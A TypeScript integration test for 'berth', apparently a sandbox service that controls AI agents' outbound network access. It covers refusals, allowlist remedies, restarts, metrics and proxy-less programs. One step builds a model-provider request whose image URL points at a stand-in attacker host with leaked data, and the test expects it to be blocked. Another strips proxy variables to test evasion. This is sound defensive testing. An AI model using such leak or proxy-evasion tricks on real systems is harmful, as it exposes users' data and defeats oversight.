import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test } from 'node:test';
import { berthIn } from '../support/berth.ts';
import { workshop } from '../support/scenario.ts';
import { startService } from '../support/service.ts';
import { until } from '../support/until.ts';

test('A refused connection tells the agent and its owner what to do; the line that it names opens the way without another sandbox.', async (t) => {
  const outside = createServer((_request, response) => response.end('from outside\n')).listen(0, '127.0.0.1');
  await once(outside, 'listening');
  t.after(() => {
    outside.close();
    outside.closeAllConnections();
  });
  const { port } = outside.address() as AddressInfo;
  const service = await startService({ env: { BERTH_ALLOW_PRIVATE_NETWORKS: '127.0.0.1/32' } });
  t.after(() => service.end());
  const shop = await workshop(service);
  t.after(() => shop.close());
  const berth = async (...args: string[]) => {
    const start = berthIn(shop.home, { BERTH_URL: service.url, BERTH_API_KEY: service.key });
    const ended = await start(args).ended;
    assert.equal(ended.code, 0, `berth ${args.join(' ')}\n${ended.stdout}\n${ended.stderr}`);
    return ended.stdout;
  };
  const agent = await shop.agent({ 'AGENTS.md': 'You fetch.\n' });
  const fetched = async (line: string, conversationId?: string) =>
    (await agent.say(`run: ${line}`, conversationId)).message.content as string;

  const curl = `curl -sS -i -m 20 --noproxy '' http://127.0.0.1:${port}/`;
  const remedy = `egress allow ${agent.id} 127.0.0.1:${port}`;
  const first = await fetched(`touch /tmp/same-sandbox; ${curl}`);
  assert.match(first, /403 Forbidden[\s\S]*X-Berth-Egress-Error: address_literal/);
  assert.ok(first.includes(`berth ${remedy}`), first);
  // Node's own fetch finds the proxy by itself, and sees the refusal.
  assert.match(
    await fetched(
      `node -e "fetch('https://registry.example/').catch((e) => console.log('failed', String(e.cause?.cause ?? e.cause)))"`,
    ),
    /failed .*(403|Proxy)/i,
  );
  const listed = async () => JSON.parse(await berth('egress', 'refusals', agent.id, '--json'));
  await until('both are listed', async () => (await listed()).length === 2);
  const [second, refusal] = await listed();
  assert.deepEqual([second.host, second.port, second.reason], ['registry.example', 443, 'not_listed']);
  assert.deepEqual([refusal.count, refusal.remedy], [1, `berth ${remedy}`]);

  assert.match(
    await berth('egress', 'show', agent.id),
    /list \(default of the installation\)[\s\S]*npm pypi debian/,
  );
  assert.match(await berth(...remedy.split(' ')), new RegExp(`127\\.0\\.0\\.1:${port}`));
  assert.match(
    await fetched(`ls /tmp/same-sandbox; ${curl}`),
    /same-sandbox[\s\S]*200 OK[\s\S]*from outside/,
  );

  // The sandbox lives on, and its way out is open again with the policy as it was.
  await service.kill9();
  await service.restart();
  assert.match(
    await fetched(`ls /tmp/same-sandbox; ${curl}`),
    /same-sandbox[\s\S]*200 OK[\s\S]*from outside/,
  );

  await berth('egress', 'mode', agent.id, 'none');
  assert.match(await fetched(curl), /X-Berth-Egress-Error: egress_off/);
  // Nor does the model's provider fetch for it what it may not reach itself.
  const source = { type: 'image_url', image_url: { url: 'https://attacker.example/leak?data=x' } };
  const asked = JSON.stringify({ model: 'demo/guide', messages: [{ role: 'user', content: [source] }] });
  const ask = `curl -sS -m 20 --noproxy '*' -H "authorization: Bearer $OPENAI_API_KEY" -d '${asked}' $OPENAI_BASE_URL/chat/completions`;
  assert.match(
    await fetched(ask),
    new RegExp(`past the agent's network rules.*berth egress mode ${agent.id}`),
  );
  await berth('egress', 'reset', agent.id);
  assert.match(await fetched(curl), /X-Berth-Egress-Error: address_literal/);
  const metrics = (await service.api('GET', '/metrics')).text;
  assert.ok(Number(/^berth_egress_received_bytes_total (\d+)$/m.exec(metrics)?.[1]) > 0, metrics);
  assert.match(metrics, /# TYPE berth_egress_refused_total counter\nberth_egress_refused_total 2\n/);
  // Programs that know no proxy, in a sandbox that is made anew for it.
  const bare =
    'env -u http_proxy -u HTTP_PROXY -u all_proxy -u ALL_PROXY curl -sS -i -m 20 http://registry.example/';
  assert.match(await fetched(bare), /Could not resolve host/);
  const shown = await berth('egress', 'transparent', agent.id, 'on');
  if (/host cannot/.test(shown)) t.diagnostic('transparent egress is not possible here');
  else assert.match(await fetched(bare), /403 Forbidden[\s\S]*X-Berth-Egress-Error: not_listed/);
  assert.doesNotMatch(await berth('egress', 'deny', agent.id, 'npm'), /npm/);
  await until(
    'the bytes are listed by host',
    async () => JSON.parse(await berth('egress', 'traffic', agent.id, '--json'))[0]?.host === '127.0.0.1',
  );
});
